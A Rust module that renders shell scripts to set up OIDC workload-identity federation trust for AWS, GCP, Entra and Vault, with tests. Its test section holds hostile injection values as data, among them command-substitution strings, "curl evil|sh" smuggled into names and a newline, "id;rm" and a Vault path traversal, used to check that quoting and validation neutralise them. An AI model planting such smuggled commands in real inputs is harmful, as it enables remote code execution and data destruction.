//! What to apply on the cloud side to trust this issuer for one workload:
//! AWS IAM, GCP Workload Identity Federation, Microsoft Entra and Vault.
//! Each target pins both the audience and the exact subject, and the lints
//! catch the mistakes each cloud punishes late and obscurely. The output is
//! a shell script people run as is: every value in it is checked and quoted,
//! and JSON is built with serde_json and passed in quoted here-documents.

use lanyard_proto::SpiffeId;
use serde_json::{Value, json};

use crate::authority::Issuer;

mod names;

use names::sh_quote;

/// GCP maps `sub` to `google.subject`, which may not exceed 127 bytes.
const GCP_SUBJECT_LIMIT: usize = 127;
/// IAM's limit on an OIDC provider's client IDs (the audiences).
const AWS_CLIENT_ID_LIMIT: usize = 255;
/// A generous bound for text no cloud documents a limit for.
const TEXT_LIMIT: usize = 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Target {
    Aws,
    Gcp,
    Azure,
    Vault,
}

/// Everything a rendering needs; unnamed cloud-side names become placeholders.
#[derive(Debug, Clone)]
pub struct Request {
    pub target: Target,
    pub issuer: Issuer,
    /// A SPIFFE ID, or with `allow_wildcard` a pattern ending in `/*`.
    pub subject: String,
    pub audience: Option<String>,
    pub allow_wildcard: bool,
    /// The `alg` of the issuer's signing keys, e.g. "ES256".
    pub signing_alg: String,
    /// Target-specific names: role, account, pool, identity, policy…
    pub name: Option<String>,
    pub account: Option<String>,
    /// AWS session tags (key, claim template) the entry's claims carry.
    pub session_tags: Vec<(String, String)>,
    /// GCP attributes (name, claim template) the entry's claims carry.
    pub attribute_mapping: Vec<(String, String)>,
}

/// `KEY=VALUE` from the command line.
pub fn parse_pair(text: &str) -> Result<(String, String), String> {
    text.split_once('=')
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .ok_or_else(|| format!("{text:?} is not KEY=TEMPLATE"))
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub text: String,
    pub warnings: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum FederationError {
    #[error(
        "subject {0:?} is a wildcard: any workload matching it could assume this identity; pass --allow-wildcard if that is intended"
    )]
    Wildcard(String),
    #[error("subject {subject:?} is not a SPIFFE ID: {reason}")]
    BadSubject { subject: String, reason: String },
    #[error("{target:?} does not support wildcard subjects; register each SPIFFE ID")]
    WildcardUnsupported { target: Target },
    #[error("{flag} {value:?}: {rule}")]
    BadValue {
        flag: &'static str,
        value: String,
        rule: String,
    },
    #[error("rendering JSON: {0}")]
    Json(String),
    #[error("{flag} is for {target}")]
    WrongTarget {
        flag: &'static str,
        target: &'static str,
    },
    #[error("{flag}: the claims it makes are refused: {reason}")]
    Claims { flag: &'static str, reason: String },
}

fn validate_subject(request: &Request) -> Result<bool, FederationError> {
    let bad = |reason: String| FederationError::BadSubject {
        subject: request.subject.clone(),
        reason,
    };
    if request.subject.contains('*') {
        if !request.allow_wildcard {
            return Err(FederationError::Wildcard(request.subject.clone()));
        }
        let prefix = request
            .subject
            .strip_suffix("/*")
            .ok_or_else(|| bad("a wildcard may only be a final \"/*\"".into()))?;
        SpiffeId::parse(prefix).map_err(|e| bad(e.to_string()))?;
        return Ok(true);
    }
    SpiffeId::parse(&request.subject).map_err(|e| bad(e.to_string()))?;
    Ok(false)
}

pub fn render(request: &Request) -> Result<Rendered, FederationError> {
    let wildcard = validate_subject(request)?;
    let mut warnings = Vec::new();
    if !request.issuer.is_https() {
        warnings.push(format!(
            "issuer {} is not https: AWS, GCP and Entra fetch discovery only over HTTPS; put a TLS proxy or a static host in front",
            request.issuer.as_str()
        ));
    }
    if !request.session_tags.is_empty() && request.target != Target::Aws {
        return Err(FederationError::WrongTarget {
            flag: "--session-tag",
            target: "aws",
        });
    }
    if !request.attribute_mapping.is_empty() && request.target != Target::Gcp {
        return Err(FederationError::WrongTarget {
            flag: "--attribute-mapping",
            target: "gcp",
        });
    }
    let text = match request.target {
        Target::Aws => aws(request, wildcard)?,
        Target::Gcp => {
            if wildcard {
                return Err(FederationError::WildcardUnsupported {
                    target: Target::Gcp,
                });
            }
            if request.subject.len() > GCP_SUBJECT_LIMIT {
                warnings.push(format!(
                    "the SPIFFE ID is {} bytes; GCP's google.subject takes at most {GCP_SUBJECT_LIMIT}: map a shorter attribute or shorten the ID",
                    request.subject.len()
                ));
            }
            gcp(request)?
        }
        Target::Azure => {
            if wildcard {
                return Err(FederationError::WildcardUnsupported {
                    target: Target::Azure,
                });
            }
            if request.signing_alg != "RS256" {
                warnings.push(format!(
                    "the issuer signs with {}, but Entra accepts only RS256: set jwt key type rsa-2048 on the server",
                    request.signing_alg
                ));
            }
            azure(request)?
        }
        Target::Vault => vault(request, wildcard)?,
    };
    Ok(Rendered { text, warnings })
}

/// The value given for a flag, checked, or the placeholder printed instead.
fn given<'a>(
    value: &'a Option<String>,
    placeholder: &'a str,
    check: impl FnOnce(&str) -> Result<(), FederationError>,
) -> Result<&'a str, FederationError> {
    match value {
        Some(value) => check(value).map(|()| value.as_str()),
        None => Ok(placeholder),
    }
}

/// JSON for a quoted here-document: the shell expands nothing in it, and a
/// pretty-printed object has no line that is just `EOF`.
fn heredoc_json(value: &Value) -> Result<String, FederationError> {
    serde_json::to_string_pretty(value).map_err(|e| FederationError::Json(e.to_string()))
}

fn aws(request: &Request, wildcard: bool) -> Result<String, FederationError> {
    let audience = given(&request.audience, "sts.amazonaws.com", |a| {
        names::free_text("--audience", a, AWS_CLIENT_ID_LIMIT)
    })?;
    let account = given(&request.account, "ACCOUNT_ID", names::aws_account)?;
    let role = given(&request.name, "ROLE_NAME", names::aws_role)?;
    let provider = request.issuer.host_and_path();
    let (aud_key, sub_key) = (format!("{provider}:aud"), format!("{provider}:sub"));
    let conditions = if wildcard {
        json!({ "StringEquals": { aud_key: audience }, "StringLike": { sub_key: request.subject } })
    } else {
        json!({ "StringEquals": { aud_key: audience, sub_key: request.subject } })
    };
    let mut conditions = conditions;
    let action = if request.session_tags.is_empty() {
        json!("sts:AssumeRoleWithWebIdentity")
    } else {
        // Only the tags the entry's claims carry may be set.
        let keys: Vec<&str> = request
            .session_tags
            .iter()
            .map(|(k, _)| k.as_str())
            .collect();
        conditions["ForAllValues:StringEquals"] = json!({ "aws:TagKeys": keys });
        json!(["sts:AssumeRoleWithWebIdentity", "sts:TagSession"])
    };
    let policy = heredoc_json(&json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Principal": { "Federated": format!("arn:aws:iam::{account}:oidc-provider/{provider}") },
            "Action": action,
            "Condition": conditions,
        }]
    }))?;
    let tags = aws_session_tags(&request.session_tags)?;
    Ok(format!(
        "# 1. Register the issuer with IAM (once per account).\n\
         aws iam create-open-id-connect-provider --url {issuer} --client-id-list {audience}\n\n\
         # 2. The role's trust policy.\n\
         cat > trust-policy.json <<'EOF'\n{policy}\nEOF\n\n\
         # 3. Create the role (or update an existing one's trust policy).\n\
         aws iam create-role --role-name {role} --assume-role-policy-document file://trust-policy.json\n\n\
         # The workload then uses: lanyard-agent aws credential-process --role-arn {arn}\n{tags}",
        issuer = sh_quote(request.issuer.as_str()),
        audience = sh_quote(audience),
        role = sh_quote(role),
        arn = sh_quote(&format!("arn:aws:iam::{account}:role/{role}")),
    ))
}

/// The entry claims that carry `tags` as AWS session tags, checked as the
/// server will check them, and how to set them; "" for no tags.
fn aws_session_tags(tags: &[(String, String)]) -> Result<String, FederationError> {
    if tags.is_empty() {
        return Ok(String::new());
    }
    let mut principal = serde_json::Map::new();
    for (key, template) in tags {
        names::aws_tag_key(key)?;
        principal.insert(key.clone(), json!([template]));
    }
    let claims = entry_claims(
        "--session-tag",
        &json!({
            "https://aws.amazon.com/tags": { "principal_tags": principal }
        }),
    )?;
    let keys: Vec<&str> = tags.iter().map(|(k, _)| k.as_str()).collect();
    Ok(format!(
        "\n# 4. The entry's claims, which carry the session tags (each a template the\n\
         #    agent fills from the calling workload), set on the workload's entry:\n\
         cat > claims.json <<'EOF'\n{claims}\nEOF\n\
         lanyard-server entry update ENTRY_ID --claims \"$(cat claims.json)\"\n\
         # Permission policies can then test them: {conditions}\n",
        conditions = keys
            .iter()
            .map(|k| format!("aws:PrincipalTag/{k}"))
            .collect::<Vec<_>>()
            .join(", "),
    ))
}

/// `claims` checked as an entry's claims are, as a here-document.
fn entry_claims(flag: &'static str, claims: &Value) -> Result<String, FederationError> {
    let text = claims.to_string();
    lanyard_proto::entry_claims::EntryClaims::parse(&text).map_err(|e| {
        FederationError::Claims {
            flag,
            reason: e.to_string(),
        }
    })?;
    heredoc_json(claims)
}

fn gcp(request: &Request) -> Result<String, FederationError> {
    let project = given(&request.account, "PROJECT_NUMBER", names::gcp_project)?;
    let pool = given(&request.name, "lanyard-pool", names::gcp_pool)?;
    let provider = "lanyard";
    let default_audience = format!(
        "//iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/providers/{provider}"
    );
    let audience = given(&request.audience, &default_audience, |a| {
        names::free_text("--audience", a, TEXT_LIMIT)
    })?;
    // A CEL string in double quotes; the SPIFFE ID holds no quote or backslash.
    let condition = format!("assertion.sub == \"{}\"", request.subject);
    let member = format!(
        "principal://iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/subject/{}",
        request.subject
    );
    let mut mapping = vec!["google.subject=assertion.sub".to_owned()];
    let mut claims = serde_json::Map::new();
    for (name, template) in &request.attribute_mapping {
        names::gcp_attribute(name)?;
        mapping.push(format!("attribute.{name}=assertion.{name}"));
        claims.insert(name.clone(), json!(template));
    }
    let attributes = if claims.is_empty() {
        String::new()
    } else {
        let claims = entry_claims("--attribute-mapping", &Value::Object(claims))?;
        let (first, _) = &request.attribute_mapping[0];
        format!(
            "\n# 3. The entry's claims, which carry the mapped attributes (each a template the\n\
             #    agent fills from the calling workload), set on the workload's entry:\n\
             cat > claims.json <<'EOF'\n{claims}\nEOF\n\
             lanyard-server entry update ENTRY_ID --claims \"$(cat claims.json)\"\n\
             # IAM bindings can then name every workload with an attribute value, e.g.\n\
             #   --member=principalSet://iam.googleapis.com/projects/{project}/locations/global/workloadIdentityPools/{pool}/attribute.{first}/VALUE\n"
        )
    };
    Ok(format!(
        "# 1. A pool and an OIDC provider that trusts exactly this workload.\n\
         gcloud iam workload-identity-pools create {pool} --location=global\n\
         gcloud iam workload-identity-pools providers create-oidc {provider} --location=global \\\n  \
         --workload-identity-pool={pool} --issuer-uri={issuer} \\\n  \
         --allowed-audiences={audience} \\\n  \
         --attribute-mapping={mapping} \\\n  \
         --attribute-condition={condition}\n\
         # If the issuer is not reachable from Google, add: --jwk-json-path=jwks.json (lanyard-server oidc publish writes it).\n\n\
         # 2. Let that subject impersonate a service account.\n\
         gcloud iam service-accounts add-iam-policy-binding SERVICE_ACCOUNT_EMAIL \\\n  \
         --role=roles/iam.workloadIdentityUser \\\n  \
         --member={member}\n\n\
         # The workload then uses: lanyard-agent gcp executable --audience {audience}\n{attributes}",
        mapping = sh_quote(&mapping.join(",")),
        pool = sh_quote(pool),
        issuer = sh_quote(request.issuer.as_str()),
        audience = sh_quote(audience),
        condition = sh_quote(&condition),
        member = sh_quote(&member),
    ))
}

fn azure(request: &Request) -> Result<String, FederationError> {
    let audience = given(&request.audience, "api://AzureADTokenExchange", |a| {
        names::free_text("--audience", a, TEXT_LIMIT)
    })?;
    let identity = given(&request.name, "IDENTITY_NAME", names::azure_identity)?;
    let group = given(&request.account, "RESOURCE_GROUP", names::azure_group)?;
    Ok(format!(
        "# A federated credential on a user-assigned managed identity.\n\
         az identity federated-credential create --name lanyard \\\n  \
         --identity-name {identity} --resource-group {group} \\\n  \
         --issuer {issuer} --subject {subject} --audiences {audience}\n",
        identity = sh_quote(identity),
        group = sh_quote(group),
        issuer = sh_quote(request.issuer.as_str()),
        subject = sh_quote(&request.subject),
        audience = sh_quote(audience),
    ))
}

fn vault(request: &Request, wildcard: bool) -> Result<String, FederationError> {
    let audience = given(&request.audience, "vault", |a| {
        names::free_text("--audience", a, TEXT_LIMIT)
    })?;
    let role = given(&request.name, "lanyard-workload", names::vault_role)?;
    let policy = given(&request.account, "POLICY", |p| {
        names::free_text("--account", p, TEXT_LIMIT)
    })?;
    let mut body = json!({
        "role_type": "jwt",
        "user_claim": "sub",
        "bound_audiences": [audience],
        "token_policies": [policy],
        "token_ttl": "15m",
    });
    // `bound_claims` is a map, which Vault refuses as a key=value string:
    // hence the role as a JSON body.
    if wildcard {
        body["bound_claims_type"] = json!("glob");
        body["bound_claims"] = json!({ "sub": request.subject });
    } else {
        body["bound_subject"] = json!(request.subject);
    }
    Ok(format!(
        "# 1. The JWT auth method, trusting the issuer's discovery document.\n\
         vault auth enable jwt\n\
         vault write auth/jwt/config oidc_discovery_url={issuer}\n\
         # With a self-signed issuer certificate, add: oidc_discovery_ca_pem=@oidc-tls-cert.pem\n\n\
         # 2. A role bound to exactly this audience and subject.\n\
         vault write {path} - <<'EOF'\n{body}\nEOF\n",
        issuer = sh_quote(request.issuer.as_str()),
        path = sh_quote(&format!("auth/jwt/role/{role}")),
        body = heredoc_json(&body)?,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(target: Target, subject: &str) -> Request {
        Request {
            target,
            issuer: Issuer::parse("https://oidc.example.org").expect("issuer"),
            subject: subject.into(),
            audience: None,
            allow_wildcard: false,
            signing_alg: "ES256".into(),
            name: None,
            account: Some("123456789012".into()),
            session_tags: Vec::new(),
            attribute_mapping: Vec::new(),
        }
    }

    /// The here-document written to `file` in `text`, as JSON.
    fn heredoc_named(
        text: &str,
        file: &str,
    ) -> Result<serde_json::Value, Box<dyn std::error::Error>> {
        let start = format!("cat > {file} <<'EOF'\n");
        let body = text.split_once(&start).ok_or("no such here-document")?.1;
        let body = body.split_once("\nEOF\n").ok_or("unterminated")?.0;
        Ok(serde_json::from_str(body)?)
    }

    /// `--session-tag`/`--attribute-mapping` print the entry claims that
    /// carry them (accepted as the server checks claims) and the cloud side
    /// that reads them; bad names and templates are refused by flag.
    #[test]
    fn claim_flags_print_both_sides() -> Result<(), Box<dyn std::error::Error>> {
        let pair = |k: &str, v: &str| (k.to_owned(), v.to_owned());
        let mut aws = request(Target::Aws, "spiffe://example.org/web");
        aws.session_tags = vec![pair("unit", "{{ systemd:unit }}")];
        let text = render(&aws)?.text;
        let policy = heredoc_named(&text, "trust-policy.json")?;
        assert_eq!(
            policy["Statement"][0]["Action"],
            json!(["sts:AssumeRoleWithWebIdentity", "sts:TagSession"])
        );
        assert_eq!(
            policy["Statement"][0]["Condition"]["ForAllValues:StringEquals"],
            json!({"aws:TagKeys": ["unit"]})
        );
        let claims = heredoc_named(&text, "claims.json")?;
        assert_eq!(
            claims,
            json!({"https://aws.amazon.com/tags": {"principal_tags": {"unit": ["{{ systemd:unit }}"]}}})
        );
        lanyard_proto::entry_claims::EntryClaims::parse(&claims.to_string())?;
        assert!(text.contains("aws:PrincipalTag/unit"), "{text}");

        let mut gcp = request(Target::Gcp, "spiffe://example.org/web");
        gcp.attribute_mapping = vec![pair("unit", "{{ systemd:unit }}")];
        let text = render(&gcp)?.text;
        assert!(
            text.contains(
                "--attribute-mapping=google.subject=assertion.sub,attribute.unit=assertion.unit"
            ),
            "{text}"
        );
        assert_eq!(
            heredoc_named(&text, "claims.json")?,
            json!({"unit": "{{ systemd:unit }}"})
        );
        assert!(text.contains("/attribute.unit/VALUE"), "{text}");

        for (target, tags, mapping, reason) in [
            (
                Target::Aws,
                vec![pair("aws:x", "v")],
                vec![],
                "not starting with \"aws:\"",
            ),
            (
                Target::Aws,
                vec![pair("unit", "{{ k8s:ns }}")],
                vec![],
                "names nothing the agent knows",
            ),
            (
                Target::Gcp,
                vec![],
                vec![pair("Unit", "x")],
                "a-z, 0-9 and '_'",
            ),
            (Target::Gcp, vec![], vec![pair("sub", "x")], "is reserved"),
            (
                Target::Gcp,
                vec![pair("unit", "x")],
                vec![],
                "--session-tag is for aws",
            ),
            (
                Target::Aws,
                vec![],
                vec![pair("unit", "x")],
                "--attribute-mapping is for gcp",
            ),
        ] {
            let mut bad = request(target, "spiffe://example.org/web");
            bad.session_tags = tags;
            bad.attribute_mapping = mapping;
            let error = render(&bad).map(|r| r.text).unwrap_err().to_string();
            assert!(error.contains(reason), "{reason}: {error}");
        }
        Ok(())
    }

    #[test]
    fn aws_trust_policy_pins_audience_and_subject() -> Result<(), Box<dyn std::error::Error>> {
        let rendered = render(&request(Target::Aws, "spiffe://example.org/web"))?;
        let start = rendered.text.find('{').ok_or("no policy")?;
        let end = rendered.text.rfind('}').ok_or("no policy")?;
        let policy: serde_json::Value = serde_json::from_str(&rendered.text[start..=end])?;
        let equals = &policy["Statement"][0]["Condition"]["StringEquals"];
        assert_eq!(equals["oidc.example.org:aud"], "sts.amazonaws.com");
        assert_eq!(equals["oidc.example.org:sub"], "spiffe://example.org/web");
        assert_eq!(
            policy["Statement"][0]["Principal"]["Federated"],
            "arn:aws:iam::123456789012:oidc-provider/oidc.example.org"
        );
        assert!(rendered.warnings.is_empty());
        Ok(())
    }

    #[test]
    fn wildcards_are_refused_unless_allowed() -> Result<(), Box<dyn std::error::Error>> {
        let mut wild = request(Target::Aws, "spiffe://example.org/ns/*");
        assert!(matches!(render(&wild), Err(FederationError::Wildcard(_))));
        wild.allow_wildcard = true;
        assert!(render(&wild)?.text.contains("StringLike"));
        wild.target = Target::Gcp;
        assert!(matches!(
            render(&wild),
            Err(FederationError::WildcardUnsupported { .. })
        ));
        let mut bad = request(Target::Aws, "spiffe://example.org/*/x");
        bad.allow_wildcard = true;
        assert!(matches!(
            render(&bad),
            Err(FederationError::BadSubject { .. })
        ));
        assert!(matches!(
            render(&request(Target::Vault, "https://x")),
            Err(FederationError::BadSubject { .. })
        ));
        Ok(())
    }

    #[test]
    fn lints_warn_about_each_cloud_limit() -> Result<(), Box<dyn std::error::Error>> {
        let long = format!("spiffe://example.org/{}", "a".repeat(120));
        let gcp = render(&request(Target::Gcp, &long))?;
        assert!(
            gcp.warnings.iter().any(|w| w.contains("127")),
            "{:?}",
            gcp.warnings
        );
        let azure = render(&request(Target::Azure, "spiffe://example.org/web"))?;
        assert!(azure.warnings.iter().any(|w| w.contains("RS256")));
        let mut rsa = request(Target::Azure, "spiffe://example.org/web");
        rsa.signing_alg = "RS256".into();
        assert!(render(&rsa)?.warnings.is_empty());
        let mut http = request(Target::Vault, "spiffe://example.org/web");
        http.issuer = Issuer::parse("http://10.0.0.1:8080")?;
        assert!(
            render(&http)?
                .warnings
                .iter()
                .any(|w| w.contains("not https"))
        );
        Ok(())
    }

    #[test]
    fn every_target_names_issuer_audience_and_subject() -> Result<(), Box<dyn std::error::Error>> {
        for (target, audience) in [
            (
                Target::Gcp,
                "//iam.googleapis.com/projects/123456789012/locations/global/workloadIdentityPools/lanyard-pool/providers/lanyard",
            ),
            (Target::Azure, "api://AzureADTokenExchange"),
            (Target::Vault, "vault"),
        ] {
            let text = render(&request(target, "spiffe://example.org/web"))?.text;
            assert!(text.contains("https://oidc.example.org"), "{target:?}");
            assert!(text.contains(audience), "{target:?}: {text}");
            assert!(text.contains("spiffe://example.org/web"), "{target:?}");
        }
        Ok(())
    }

    /// The JSON between `<<'EOF'` and `EOF`, and the command that reads it.
    fn heredoc(text: &str) -> Result<(String, serde_json::Value), Box<dyn std::error::Error>> {
        let (before, after) = text.split_once(" <<'EOF'\n").ok_or("no here-document")?;
        let (json, _) = after.split_once("\nEOF\n").ok_or("no EOF line")?;
        let command = before.lines().last().ok_or("no command")?.to_owned();
        Ok((command, serde_json::from_str(json)?))
    }

    #[test]
    fn vault_roles_are_json_with_bound_claims_a_map() -> Result<(), Box<dyn std::error::Error>> {
        let mut wild = request(Target::Vault, "spiffe://example.org/ns/*");
        wild.allow_wildcard = true;
        wild.name = Some("web".into());
        let (command, role) = heredoc(&render(&wild)?.text)?;
        assert_eq!(command, "vault write auth/jwt/role/web -");
        assert_eq!(role["bound_claims_type"], "glob");
        assert_eq!(
            role["bound_claims"],
            json!({ "sub": "spiffe://example.org/ns/*" }),
            "an object, not a string"
        );
        assert!(role.get("bound_subject").is_none());
        assert_eq!(role["bound_audiences"], json!(["vault"]));
        assert_eq!(role["token_policies"], json!(["123456789012"]));

        let (_, exact) =
            heredoc(&render(&request(Target::Vault, "spiffe://example.org/web"))?.text)?;
        assert_eq!(exact["bound_subject"], "spiffe://example.org/web");
        assert!(exact.get("bound_claims").is_none());
        Ok(())
    }

    #[test]
    fn the_aws_provider_is_the_issuer_without_its_scheme() -> Result<(), Box<dyn std::error::Error>>
    {
        let mut with_path = request(Target::Aws, "spiffe://example.org/web");
        with_path.issuer = Issuer::parse("https://oidc.example.org:8443/tenant")?;
        let (command, policy) = heredoc(&render(&with_path)?.text)?;
        assert_eq!(command, "cat > trust-policy.json");
        let equals = &policy["Statement"][0]["Condition"]["StringEquals"];
        assert_eq!(
            equals["oidc.example.org:8443/tenant:sub"],
            "spiffe://example.org/web"
        );
        Ok(())
    }

    /// Runs the rendered script's `text` with every cloud CLI replaced by a
    /// function that prints its arguments: what the real commands would get.
    fn arguments_seen_by_sh(text: &str) -> Result<String, Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let script = format!(
            "show() {{ for a in \"$@\"; do printf '[%s]' \"$a\"; done; echo; }}\n\
             aws() {{ show aws \"$@\"; }}\ngcloud() {{ show gcloud \"$@\"; }}\n\
             az() {{ show az \"$@\"; }}\nvault() {{ show vault \"$@\"; cat; }}\n{text}"
        );
        let output = std::process::Command::new("sh")
            .arg("-c")
            .arg(script)
            .current_dir(dir.path())
            .output()?;
        assert!(output.status.success(), "{output:?}");
        Ok(String::from_utf8(output.stdout)?)
    }

    #[test]
    fn hostile_text_stays_one_argument() -> Result<(), Box<dyn std::error::Error>> {
        let hostile = "x'; echo INJECTED; '$(echo INJECTED)`echo INJECTED`";
        for target in [Target::Aws, Target::Gcp, Target::Azure, Target::Vault] {
            let mut evil = request(target, "spiffe://example.org/web");
            evil.audience = Some(hostile.into());
            evil.account = None;
            evil.issuer = Issuer::parse("https://oidc.example.org/a'$(echo&INJECTED)")?;
            let text = render(&evil)?.text;
            let seen = arguments_seen_by_sh(&text)?;
            assert!(!seen.lines().any(|l| l == "INJECTED"), "{target:?}: {seen}");
            assert!(
                seen.contains(&format!("[{hostile}]"))
                    || seen.contains(&format!("[--allowed-audiences={hostile}]"))
                    || seen.contains(&serde_json::to_string(hostile)?),
                "{target:?}: the audience arrives whole: {seen}"
            );
            assert!(
                seen.contains("oidc.example.org/a'$(echo&INJECTED)"),
                "{target:?}: the issuer arrives whole: {seen}"
            );
        }
        Ok(())
    }

    #[test]
    fn names_a_cloud_would_refuse_are_refused() {
        let cases = [
            (Target::Aws, Some("web'; curl evil|sh; '"), None, "--name"),
            (Target::Aws, None, Some("12345"), "--account"),
            (Target::Gcp, Some("Pool With Spaces"), None, "--name"),
            (Target::Gcp, None, Some("my-project"), "--account"),
            (Target::Azure, Some("id;rm"), None, "--name"),
            (Target::Azure, None, Some("rg$(x)"), "--account"),
            (Target::Vault, Some("web/../../sys/policy"), None, "--name"),
            (Target::Vault, None, Some("a\nb"), "--account"),
        ];
        for (target, name, account, flag) in cases {
            let mut bad = request(target, "spiffe://example.org/web");
            bad.name = name.map(Into::into);
            bad.account = account.map(Into::into);
            let error = render(&bad).err();
            assert!(
                matches!(&error, Some(FederationError::BadValue { flag: f, .. }) if *f == flag),
                "{target:?} {name:?} {account:?}: {error:?}"
            );
        }
        let mut newline = request(Target::Gcp, "spiffe://example.org/web");
        newline.audience = Some("a\ncurl evil|sh".into());
        assert!(matches!(
            render(&newline),
            Err(FederationError::BadValue {
                flag: "--audience",
                ..
            })
        ));
    }
}
